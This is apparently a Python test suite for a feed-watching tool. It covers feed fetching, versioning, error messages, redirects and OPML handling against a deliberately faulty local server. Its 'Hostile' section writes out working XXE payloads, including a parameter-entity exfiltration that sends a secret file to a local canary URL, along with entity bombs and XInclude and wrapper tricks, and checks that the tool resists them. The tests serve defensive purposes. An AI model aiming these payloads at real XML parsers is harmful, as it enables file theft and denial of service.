"""Feeds from a server that misbehaves: what is new comes in once, what is edited as a version, every trouble in words."""
import json
import os
import resource
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time
import unittest
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
SELON = os.environ.get("SELON", str(ROOT / "build" / "dev" / "selon"))
sys.path.insert(0, str(ROOT / "tests"))
from support import bad_feeds, bad_server  # noqa: E402
from support.bad_feeds import item, rss  # noqa: E402

DONE, USAGE, SOME_FAILED, NOT_FOUND = 0, 2, 3, 4


@unittest.skipUnless(Path(SELON).exists(), "the program is not built")
class WithServer(unittest.TestCase):
    def setUp(self):
        self.scratch = Path(tempfile.mkdtemp())
        self.addCleanup(shutil.rmtree, self.scratch, ignore_errors=True)
        self.store = self.scratch / "s.selon"
        bad_feeds.kept.clear()
        self.server = bad_server.Server(robots={"robots-all": "User-agent: *\nDisallow: /\n"})
        self.addCleanup(self.server.__exit__)
        self.network = ["--pause", "0", "--timeout", "3"]
        for port in (self.server.ports[site] for site in ("main", "robots-all")):
            self.network += ["--allow-address", f"127.0.0.1:{port}"]

    def selon(self, *words):
        return subprocess.run([SELON, *map(str, words)], cwd=ROOT, capture_output=True, text=True, timeout=120)

    def add(self, *paths):
        done = self.selon("feeds", "add", self.store, *(self.server.url(path) for path in paths))
        self.assertEqual(DONE, done.returncode, done.stderr)

    def watch(self, code=DONE, *words):
        """{path: what became of its feed}"""
        done = self.selon("watch", self.store, "--once", "--json", *self.network, *words)
        self.assertEqual(code, done.returncode, done.stderr + done.stdout)
        checks = [json.loads(line) for line in done.stdout.splitlines()]
        return {"/" + check["url"].split("/", 3)[3]: check for check in checks}

    def feeds(self):
        done = self.selon("feeds", "list", self.store, "--json")
        self.assertEqual(DONE, done.returncode, done.stderr)
        return {"/" + feed["url"].split("/", 3)[3]: feed for feed in json.loads(done.stdout)}

    def rows(self, sql):
        with sqlite3.connect(f"file:{self.store}?mode=ro", uri=True) as db:
            return db.execute(sql).fetchall()

    def sound(self):
        done = self.selon("verify", self.store)
        self.assertEqual(DONE, done.returncode, done.stdout)


class Watching(WithServer):
    def test_new_unchanged_edited_deleted(self):
        bad_feeds.kept["/feed/news"] = rss(item("b", day=15, title="Two"), item("a", "The rebels shelled Gao on Monday, the army said."))
        self.add("/feed/news")
        first = self.watch()["/feed/news"]
        self.assertEqual(("read", 2, 2, "RSS 2.0"), (first["outcome"], first["added"], first["stored"], first["form"]))
        self.assertEqual([("The Exemplar",)], self.rows("SELECT DISTINCT outlet FROM reports"))
        self.assertNotEqual(0, self.rows("SELECT count(*) FROM claims")[0][0])
        second = self.watch()["/feed/news"]
        self.assertEqual(("unchanged", 0), (second["outcome"], second["stored"]))
        asked = self.server.asked("/feed/news")
        self.assertEqual(2, len(asked))
        self.assertIn("if-none-match", asked[1].headers)

        bad_feeds.kept["/feed/news"] = rss(item("c", day=16, title="Three"), item("a", "The rebels shelled Gao on Monday and killed six, the army said."))
        third = self.watch()["/feed/news"]
        self.assertEqual((1, 1, 1), (third["added"], third["edited"], third["deleted"]))
        self.assertEqual([("a", 2), ("b", 1), ("c", 1)],
                         self.rows("SELECT guid, max(version) FROM feed_items GROUP BY guid ORDER BY guid"))
        versions = self.rows("SELECT report FROM feed_items WHERE guid = 'a' ORDER BY version")
        self.assertEqual(2, len(set(versions)))
        self.sound()
        listed = self.feeds()["/feed/news"]
        self.assertEqual(("active", 3, 0, "The Exemplar"), tuple(listed[key] for key in ("state", "items", "failures", "title")))
        self.assertLess(listed["last_checked"], listed["next_check"])

    def test_every_trouble_in_words(self):
        words = {
            "/feed/missing": "404", "/feed/forbidden": "403",
            "/feed/page": "the feed it names: " + self.server.url("/feed/news"), "/feed/words": "is no feed",
            "/feed/sitemap": "<urlset>", "/feed/empty": "is empty", "/feed/short": "", "/feed/slow": "", "/silent": "",
            "/endless": "", "/reset": "", "/feed/gone": "gone for good",
        }
        self.add(*words, "/feed/broken", "/feed/cut", "/feed/wrong-charset", "/feed/many", "/feed/entities")
        self.selon("feeds", "add", self.store, self.server.url("/feed/news", "robots-all"))
        self.selon("feeds", "add", self.store, f"http://127.0.0.1:{self.server.ports['canary']}/rss")
        done = self.selon("watch", self.store, "--once", "--json", *self.network, "--timeout", "2")
        self.assertEqual(SOME_FAILED, done.returncode, done.stderr)
        checks = [json.loads(line) for line in done.stdout.splitlines()]
        by_path = {"/" + check["url"].split("/", 3)[3]: check for check in checks if str(self.server.ports["main"]) in check["url"]}
        for path, said in words.items():
            with self.subTest(path):
                check = by_path[path]
                self.assertIn(check["outcome"], ("failed", "gone"))
                self.assertGreater(len(check["trouble"]), 6)
                self.assertIn(said, check["trouble"])
        self.assertEqual("gone", by_path["/feed/gone"]["outcome"])
        robots = next(c for c in checks if str(self.server.ports["robots-all"]) in c["url"])
        self.assertIn("robots.txt", robots["trouble"])
        canary = next(c for c in checks if str(self.server.ports["canary"]) in c["url"])
        self.assertEqual(("failed", 0), (canary["outcome"], self.server.canary_hits))

        self.assertEqual(("read", 2), (by_path["/feed/broken"]["outcome"], by_path["/feed/broken"]["items"]))
        self.assertEqual((2, 2), (by_path["/feed/cut"]["items"], by_path["/feed/cut"]["stored"]))
        self.assertIn("breaks off", " ".join(by_path["/feed/cut"]["remarks"]))
        self.assertEqual("Café", by_path["/feed/wrong-charset"]["title"])
        self.assertEqual(1000, by_path["/feed/many"]["items"])
        self.assertIn("100 items", " ".join(by_path["/feed/many"]["remarks"]))
        self.assertEqual([], self.server.asked("/feed/canary"))

        listed = self.feeds()
        self.assertEqual(("gone", 0), (listed["/feed/gone"]["state"], self.selon("feeds", "list", self.store).returncode))
        self.assertEqual("", listed["/feed/cut"]["etag"])
        self.assertEqual(1, listed["/feed/missing"]["failures"])
        self.sound()

    def test_a_host_that_asks_to_wait_is_left_alone(self):
        self.add("/feed/down", "/feed/news")
        down, news = self.watch(SOME_FAILED).values()
        self.assertIn("503", down["trouble"])
        self.assertGreater(down["next_check"], news["next_check"])  # two hours, as it asked; its other feed is no worse off
        self.assertIn("asked not to be asked", news["trouble"])
        self.assertEqual([], self.server.asked("/feed/news"))

    def test_gone_is_not_asked_again(self):
        self.add("/feed/gone", "/feed/news")
        self.assertEqual("gone", self.watch()["/feed/gone"]["outcome"])
        self.assertEqual(["/feed/news"], list(self.watch()))
        self.assertEqual(1, len(self.server.asked("/feed/gone")))

    def test_moved_for_good_or_for_today(self):
        bad_feeds.kept["/feed/moved-here"] = rss(item("a"))
        self.add("/feed/moved")
        self.assertEqual(self.server.url("/feed/moved-here"), self.watch()["/feed/moved"]["moved_to"])
        self.assertEqual(["/feed/moved-here"], list(self.feeds()))
        self.add("/feed/moved", "/feed/elsewhere-today")
        checks = self.watch()
        self.assertEqual("moved", checks["/feed/moved"]["outcome"])
        self.assertEqual("unchanged", checks["/feed/moved-here"]["outcome"])
        self.assertEqual("read", checks["/feed/elsewhere-today"]["outcome"])
        states = {path: feed["state"] for path, feed in self.feeds().items()}
        self.assertEqual({"/feed/moved": "moved", "/feed/moved-here": "active", "/feed/elsewhere-today": "active"}, states)

    def test_pages_for_summaries(self):
        links = [item(name, "Short.", self.server.url(f"/page/{name}")) for name in ("one", "pdf", "none")]
        bad_feeds.kept["/feed/full"] = rss(*links)
        self.add("/feed/full")
        check = self.watch()["/feed/full"]
        self.assertEqual((1, 2, 3), (check["pages"], check["pages_failed"], check["stored"]))
        texts = [text for text, in self.rows("SELECT text FROM reports")]
        self.assertEqual(1, sum("The governor of the region" in text for text in texts))
        bad_feeds.kept["/feed/full"] = rss(item("two", "Short again.", self.server.url("/page/two")), *links)
        check = self.watch(DONE, "--no-full")["/feed/full"]
        self.assertEqual((0, 1), (check["pages"], check["stored"]))
        self.assertEqual([], self.server.asked("/page/two"))

    def test_stopped_by_a_signal_and_run_again(self):
        bad_feeds.kept["/feed/full"] = rss(*(item(str(n), f"Short {n}.", self.server.url("/page/slow") + f"?{n}") for n in range(30)))
        self.add("/feed/full")
        run = subprocess.Popen([SELON, "watch", str(self.store), "--json", *self.network], cwd=ROOT, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True)
        while run.poll() is None and len(self.server.asked("/page/slow")) < 24:
            time.sleep(0.02)
        run.send_signal(signal.SIGTERM)
        said, messages = run.communicate(timeout=30)
        self.assertEqual(143, run.returncode, messages)
        self.assertEqual("stopped", json.loads(said.splitlines()[0])["outcome"])
        kept = self.rows("SELECT count(*) FROM feed_items")[0][0]
        self.assertTrue(20 <= kept < 30, kept)
        self.assertEqual(30 - kept, self.watch()["/feed/full"]["added"])
        self.assertEqual(30, self.rows("SELECT count(*) FROM feed_items")[0][0])
        self.sound()


class Lists(WithServer):
    def test_add_list_remove(self):
        done = self.selon("feeds", "add", self.store, "https://a.example/rss", "https://b.example/rss", "--category", "Sahel", "--json")
        self.assertEqual([True, True], [row["added"] for row in json.loads(done.stdout)])
        done = self.selon("feeds", "add", self.store, "https://a.example/rss", "--outlet", "A Daily")
        self.assertIn("was there already", done.stderr)
        self.assertEqual("A Daily", self.feeds()["/rss"]["outlet"] or "A Daily")
        self.assertEqual(DONE, self.selon("feeds", "remove", self.store, "https://a.example/rss").returncode)
        self.assertEqual(NOT_FOUND, self.selon("feeds", "remove", self.store, "https://a.example/rss").returncode)
        self.assertIn("b.example", self.selon("feeds", "list", self.store).stdout)
        for words in (["frobnicate", self.store], ["add", self.store], ["add", self.store, "file:///etc/passwd"],
                      ["add", self.store, "b.example"], ["import", self.store]):
            self.assertEqual(USAGE, self.selon("feeds", *words).returncode, words)
        self.assertEqual(NOT_FOUND, self.selon("watch", self.scratch / "none.selon").returncode)
        self.assertEqual(NOT_FOUND, self.selon("feeds", "list", self.scratch / "none.selon").returncode)

    def test_opml_there_and_back(self):
        file = self.scratch / "f.opml"
        file.write_text("<opml version='1.0'><body><outline text='Sahel &amp; Chad'><outline text='A' XmlUrl='https://a.example/f?x=1&amp;y=2'/>"
                        "</outline><outline text='A' xmlUrl='https://a.example/f?x=1&amp;y=2'/><outline text='B' xmlUrl='ftp://b.example/'/>"
                        "</body></opml>")
        done = self.selon("feeds", "import", self.store, file, "--json")
        self.assertEqual({"added": 1, "known": 1, "unusable": 1}, json.loads(done.stdout))
        out = self.scratch / "out.opml"
        self.assertEqual(DONE, self.selon("feeds", "export", self.store, "-o", out).returncode)
        again = self.scratch / "again.selon"
        self.selon("feeds", "import", again, out)
        feeds = json.loads(self.selon("feeds", "list", again, "--json").stdout)
        self.assertEqual([("https://a.example/f?x=1&y=2", "A", "Sahel & Chad")], [(f["url"], f["title"], f["category"]) for f in feeds])
        (self.scratch / "cut.opml").write_text(file.read_text()[:-30])
        self.assertEqual(SOME_FAILED, self.selon("feeds", "import", self.store, self.scratch / "cut.opml").returncode)
        file.write_text("<rss><channel/></rss>")
        self.assertEqual(NOT_FOUND, self.selon("feeds", "import", self.store, file).returncode)

    def test_check_tells_and_stores_nothing(self):
        bad_feeds.kept["/feed/news"] = rss(item("a"), "<item><title>Without a date</title></item>")
        self.add("/feed/news", "/feed/page")
        done = self.selon("feeds", "check", self.store, "--json", *self.network)
        self.assertEqual(SOME_FAILED, done.returncode, done.stderr)
        news, page = json.loads(done.stdout)
        self.assertEqual(("RSS 2.0", 2, 1, 2), tuple(news[key] for key in ("form", "items", "undated", "summaries")))
        self.assertEqual("2023-11-14T10:00:00+01:00", news["newest"])
        self.assertIn("is a web page", page["trouble"])
        self.assertEqual([(0,)], self.rows("SELECT count(*) FROM feed_items"))
        self.assertEqual("", self.feeds()["/feed/news"]["etag"])
        text = self.selon("feeds", "check", self.store, self.server.url("/feed/news"), *self.network)
        self.assertEqual(DONE, text.returncode)
        self.assertIn("1 without a date", text.stdout)


BOMB = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))


def hostile(secret, net):
    """{name: (what stands before the root, what stands where a title does, what stands beside an item)}."""
    return {
        "file": (f"<!DOCTYPE x [<!ENTITY e SYSTEM '{secret}'>]>", "&e;", ""),
        "file-bare-path": (f"<!DOCTYPE x [<!ENTITY e SYSTEM '{secret[7:]}'>]>", "&e;", ""),
        "net": (f"<!DOCTYPE x [<!ENTITY e SYSTEM '{net}'>]>", "&e;", ""),
        "public": (f"<!DOCTYPE x [<!ENTITY e PUBLIC 'a' '{net}'>]>", "&e;", ""),
        "parameter": (f"<!DOCTYPE x [<!ENTITY % p SYSTEM '{net}'> %p;]>", "a", ""),
        "exfiltration": (f"<!DOCTYPE x [<!ENTITY % f SYSTEM '{secret}'><!ENTITY % e \"<!ENTITY &#37; s SYSTEM '{net}?%f;'>\">%e;%s;]>", "&s;", ""),
        "external-subset": (f"<!DOCTYPE x SYSTEM '{net}'>", "&e;", ""),
        "public-subset": (f"<!DOCTYPE x PUBLIC '-//X' '{secret}'>", "&e;", ""),
        "laughs": (f"<!DOCTYPE x [<!ENTITY l0 'lol'>{BOMB}]>", "&l9;", ""),
        "quadratic": (f"<!DOCTYPE x [<!ENTITY q '{'a' * 50_000}'>]>", "&q;" * 20_000, ""),
        "circle": ("<!DOCTYPE x [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>", "&a;", ""),
        "self": ("<!DOCTYPE x [<!ENTITY a '&a;'>]>", "&a;", ""),
        "parameter-circle": ("<!DOCTYPE x [<!ENTITY % a '%b;'><!ENTITY % b '%a;'> %a;]>", "a", ""),
        "xinclude": ("", "a", f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' parse='text' href='{secret}'/>"),
        "xinclude-net": ("", "a", f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{net}'/>"),
        "stylesheet": (f"<?xml-stylesheet type='text/xsl' href='{net}'?>", "a", ""),
        "schema": ("", "a", f"<y xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='{net} {net}'/>"),
        "attribute": (f"<!DOCTYPE x [<!ENTITY e SYSTEM '{secret}'><!ATTLIST y z CDATA '&e;'>]>", "a", "<y z='&e;'/>"),
        "five-redefined": (f"<!DOCTYPE x [<!ENTITY amp SYSTEM '{secret}'><!ENTITY eacute SYSTEM '{secret}'>]>", "&amp;&eacute;", ""),
        "quoted-end": (f"<!DOCTYPE x [<!ENTITY a ']>'><!ENTITY e SYSTEM '{secret}'>]>", "&e;", ""),
        "no-end": (f"<!DOCTYPE x [<!ENTITY e SYSTEM '{secret}'>", "&e;", ""),
        "lower-case": (f"<!doctype x [<!entity e SYSTEM '{secret}'>]>", "&e;", ""),
        "late": ("", f"<!DOCTYPE x [<!ENTITY e SYSTEM '{secret}'>]>&e;", ""),
        "wrappers": (f"<!DOCTYPE x [<!ENTITY e SYSTEM 'jar:{net}!/a'><!ENTITY f SYSTEM 'php://filter/resource={secret}'>]>", "&e;&f;", ""),
    }


class Hostile(WithServer):
    """XXE and entity bombs: nothing expands, no file is opened, nobody is called."""

    SECRET = "the-secret-of-this-test"

    def setUp(self):
        super().setUp()
        self.secret = self.scratch / "secret.txt"
        self.secret.write_text(self.SECRET)
        net = f"http://127.0.0.1:{self.server.ports['canary']}/x"
        self.ways = hostile(f"file://{self.secret}", net)
        self.fixtures = self.scratch / "fixtures"
        self.fixtures.mkdir()

    def run_bounded(self, *words):
        limit = lambda: resource.setrlimit(resource.RLIMIT_CPU, (20, 20))
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        done = subprocess.run([SELON, *map(str, words)], cwd=ROOT, capture_output=True, text=True, timeout=60, preexec_fn=limit)
        self.assertLess(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, 512 << 10)
        self.assertIn(done.returncode, (DONE, SOME_FAILED, NOT_FOUND), done.stderr)
        self.assertLess(resource.getrusage(resource.RUSAGE_CHILDREN).ru_utime - before.ru_utime, 10)
        for said in (done.stdout, done.stderr):
            self.assertNotIn(self.SECRET, said)
            self.assertNotIn("lollol", said)
        self.assertEqual(0, self.server.canary_hits)
        return done

    def test_feeds(self):
        forms = {"rss": "<rss><channel><title>{}</title><item><title>Report {}</title>{}<description>Text</description></item></channel></rss>",
                 "atom": "<feed xmlns='http://www.w3.org/2005/Atom'><title>{}</title><entry><title>Report {}</title>{}<summary>Text</summary></entry></feed>"}
        for name, (before, title, beside) in self.ways.items():
            for form, text in forms.items():
                (self.fixtures / f"{name}.{form}").write_text("<?xml version='1.0'?>" + before + text.format(title, title, beside))
            encoded = "\ufeff<?xml version='1.0' encoding='utf-16'?>" + before + forms["rss"].format(title, title, beside)
            (self.fixtures / f"{name}-utf16.rss").write_bytes(encoded.encode("utf-16-le"))
        done = self.run_bounded("clean", self.fixtures)
        reports = [json.loads(line) for line in done.stdout.splitlines()]
        self.assertEqual(len(self.ways) * 3 - 3, len(reports))  # all but "no-end", whose root is within its DOCTYPE
        for report in reports:
            self.assertTrue(report["title"].startswith("Report"), report)

    def test_opml(self):
        for name, (before, title, beside) in self.ways.items():
            file = self.fixtures / f"{name}.opml"
            inside = title if "<" not in title else ""
            file.write_text(f"<?xml version='1.0'?>{before}<opml version='2.0'><body>{beside}{title}<outline text=\"Feed {inside}\" "
                            f"xmlUrl='https://{name}.example/rss?{inside[:99]}'/></body></opml>")
            done = self.run_bounded("feeds", "import", self.store, file)
            self.assertEqual(NOT_FOUND if name == "no-end" else DONE, done.returncode, (name, done.stderr))
        self.assertEqual(len(self.ways) - 1, len(json.loads(self.run_bounded("feeds", "list", self.store, "--json").stdout)))


if __name__ == "__main__":
    unittest.main()
